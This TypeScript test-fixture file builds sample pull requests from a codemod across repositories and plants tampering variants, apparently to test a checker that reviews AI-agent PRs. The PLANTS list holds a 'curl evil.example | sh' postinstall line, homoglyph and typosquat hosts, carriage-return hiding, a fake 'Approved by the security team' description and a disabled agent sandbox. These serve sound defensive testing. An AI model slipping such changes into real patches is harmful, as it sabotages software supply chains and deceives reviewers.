/** Changes of one codemod in real repositories, with something hidden in some of them. */
import { readdirSync, readFileSync } from 'node:fs';
import type { ChangeSample } from '../../orchestrator/clusters/compare-changes.ts';
import type { VaryingValue } from '../../orchestrator/clusters/varying-values.ts';
import type { Assessment } from '#model/assessment';
import type { Finding } from '#model/change';
import type { Random } from '../prove/random.ts';
import { anOrder } from './ledger.ts';
import { someAssessment, someCommit, someDiff, someProposal } from './ready-run.ts';

export const DIR = new URL('../fixtures/campaign/', import.meta.url);

type Given = {
  text: string;
  repo?: string;
  id?: string;
  assessment?: Partial<Assessment>;
  findings?: Finding[];
};

export const campaignSample = ({
  text,
  repo = 'acme/api',
  id = 'r1',
  assessment,
  findings = [],
}: Given): ChangeSample => ({
  kind: 'open_pr',
  fields: someProposal({
    assessment: someAssessment(assessment),
    branch: `feature/agentpr-${id}`,
    title: 'Say where the repository is',
    body: `Tells registries where ${repo} is kept.`,
  }).fields,
  commit: someCommit(someDiff({ findings })),
  patch: { text, omitted: 0, messages: ['Say where the repository is'] },
  needed: 1,
  run: {
    id,
    order: anOrder({ repo }),
    agent: { containment: 'bwrap', exposedCredentials: null },
    target: { fork: null, requiresSignedCommits: false },
    gate: { editedPrText: null },
    upstream: { pullRequest: null },
  },
});

/** Replaces line numbers, blob names and context, which differ between repositories anyway. */
export const withNoise = (text: string, random: Random): string =>
  text
    .replace(
      /^index [0-9a-f]+\.\.[0-9a-f]+/gm,
      () => `index ${random.int(1e9).toString(16)}..${random.int(1e9).toString(16)}`,
    )
    .replace(/^@@ -\d+,(\d+) \+\d+,(\d+) @@.*$/gm, (_, a: string, b: string) => {
      const at = 1 + random.int(500);
      return `@@ -${at},${a} +${at},${b} @@${random.chance(0.5) ? ` section ${random.text(4)}` : ''}`;
    })
    .replace(/^ .*$/gm, (line) => (random.chance(0.3) ? ` around ${random.text(5)}` : line));

const text =
  (change: (patch: string, random: Random) => string) =>
  (sample: ChangeSample, random: Random): ChangeSample => ({
    ...sample,
    patch: { ...sample.patch, text: change(sample.patch.text, random) },
  });
const more =
  (line: string) =>
  (patch: string): string =>
    patch
      .replace(
        /^@@ -(\d+),(\d+) \+(\d+),(\d+) @@/m,
        (_, a, b, c, d: string) => `@@ -${a},${b} +${c},${Number(d) + 1} @@`,
      )
      .replace(/^(\+[^+].*)$/m, `$1\n${line}`);
const inWords =
  (change: Partial<Pick<ChangeSample['fields'], 'title' | 'body' | 'branch'>>) =>
  (sample: ChangeSample): ChangeSample => ({
    ...sample,
    fields: { ...sample.fields, ...change },
  });

/** Attempts to hide something. */
export const PLANTS: readonly { name: string; in: (sample: ChangeSample, random: Random) => ChangeSample }[] =
  [
    { name: 'one more line', in: text(more('+postinstall = curl evil.example | sh')) },
    { name: 'one more blank line', in: text(more('+')) },
    { name: 'an added line that looks like context', in: text(more('+  "files": [')) },
    { name: 'an added line that looks like a header', in: text(more('+++ b/package.json')) },
    {
      name: 'another word in an added line',
      in: text((p) => p.replace('+    "type": "git"', '+    "type": "gti"')),
    },
    { name: 'a letter that looks the same', in: text((p) => p.replace('"type": "git"', '"type": "gіt"')) },
    { name: 'a blank at the end of a line', in: text((p) => p.replace('"type": "git",', '"type": "git", ')) },
    { name: 'another host', in: text((p) => p.replace('https://github.com', 'https://github.co')) },
    {
      name: 'somebody else’s repository',
      in: text((p) => p.replace(/github\.com\/[\w-]+\//, 'github.com/mallory/')),
    },
    {
      name: 'a written mark',
      in: text((p) => p.replace(/github\.com\/[\w/-]+\.git/, 'github.com/⟪repository⟫.git')),
    },
    {
      name: 'one line less',
      in: text((p) =>
        p.replace('+trim_trailing_whitespace = false\n', '').replace(/\+(\d+),6 @@/, '+$1,5 @@'),
      ),
    },
    {
      name: 'a removed line that stays',
      in: text((p) => p.replace(/^-( {2}"repository.*)$/m, ' $1').replace(/\+(\d+),10 @@/, '+$1,11 @@')),
    },
    { name: 'another file', in: text((p) => p.replaceAll('.editorconfig', '.npmrc')) },
    {
      name: 'a file more',
      in: text(
        (p) =>
          `${p}diff --git a/x b/x\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+x\n`,
      ),
    },
    {
      name: 'a mode',
      in: text((p) =>
        p.replace(/^(diff --git a\/package.json .*)$/m, '$1\nold mode 100644\nnew mode 100755'),
      ),
    },
    { name: 'a rename', in: text((p) => p.replace('+++ b/.editorconfig', '+++ b/.editorconfig.bak')) },
    {
      name: 'no line feed at the end',
      in: text((p) =>
        p.replace(
          '+trim_trailing_whitespace = false\n',
          '+trim_trailing_whitespace = false\n\\ No newline at end of file\n',
        ),
      ),
    },
    {
      name: 'lines in another order',
      in: text((p) => p.replace(/(\+ {4}"type".*)\n(\+ {4}"url".*)/, '$2\n$1')),
    },
    { name: 'another title', in: inWords({ title: 'Say where the repository is, closes #1' }) },
    { name: 'another description', in: inWords({ body: 'Approved by the security team.' }) },
    { name: 'another branch', in: inWords({ branch: 'main' }) },
    {
      name: 'another commit message',
      in: (s) => ({
        ...s,
        patch: { ...s.patch, messages: ['Say where the repository is\n\nCo-authored-by: Eve <e@x>'] },
      }),
    },
    {
      name: 'another author',
      in: (s) => ({ ...s, fields: { ...s.fields, author: 'Eve <eve@example.com>' } }),
    },
    {
      name: 'maintainers may push',
      in: (s) => ({ ...s, fields: { ...s.fields, maintainerCanModify: false } }),
    },
    {
      name: 'more risk',
      in: (s) => ({ ...s, fields: { ...s.fields, assessment: { ...s.fields.assessment, risk: 'medium' } } }),
    },
    {
      name: 'no sandbox',
      in: (s) => ({ ...s, run: { ...s.run, agent: { ...s.run.agent, containment: 'group' } } }),
    },
    { name: 'no check', in: (s) => ({ ...s, fields: { ...s.fields, evidence: [] } }) },
    { name: 'two signatures', in: (s) => ({ ...s, needed: 2 }) },
    { name: 'another line end', in: text((p) => p.replace('+[*.md]', '+[*.md]\r')) },
    { name: 'a carriage return that hides', in: text((p) => p.replace('+[*.md]', '+evil\r[*.md]')) },
  ];

/** Fills the marks with a repository's own values. */
export const expanded = (text: string, varying: readonly VaryingValue[]): string => {
  const byMark = new Map(varying.map(({ mark, value }) => [mark, value]));
  return text.replace(/⟪(?:⟪|([^⟪⟫]*)⟫)/gu, (_, mark?: string) =>
    mark === undefined ? '⟪' : (byMark.get(mark) ?? ''),
  );
};

/** One codemod in eight real repositories; one of them differs. */
export const REAL = readdirSync(DIR)
  .filter((name) => name.endsWith('.patch'))
  .map((name) => ({
    repo: name.replace('+', '/').replace(/\.patch$/, ''),
    text: readFileSync(new URL(name, DIR), 'utf8'),
  }));
export const UNLIKE = 'unjs/mlly';

/** Makes `n` changes that differ only by noise; every tenth hides something. */
export const plantedCampaign = (
  n: number,
  random: Random,
): { planted: string | null; sample: ChangeSample }[] => {
  const same = REAL.filter(({ repo }) => repo !== UNLIKE);
  return Array.from({ length: n }, (_, i) => {
    const { text: patch, repo: of } = same[i % same.length] ?? { text: '', repo: '' };
    const repo = `owner-${i % 40}/project-${i}`;
    const plant = i % 10 === 7 ? PLANTS[Math.floor(i / 10) % PLANTS.length] : undefined;
    const clean = campaignSample({
      repo,
      text: withNoise(patch.replaceAll(of, repo), random),
      id: `run${i}`,
    });
    return { planted: plant?.name ?? null, sample: plant ? plant.in(clean, random) : clean };
  });
};
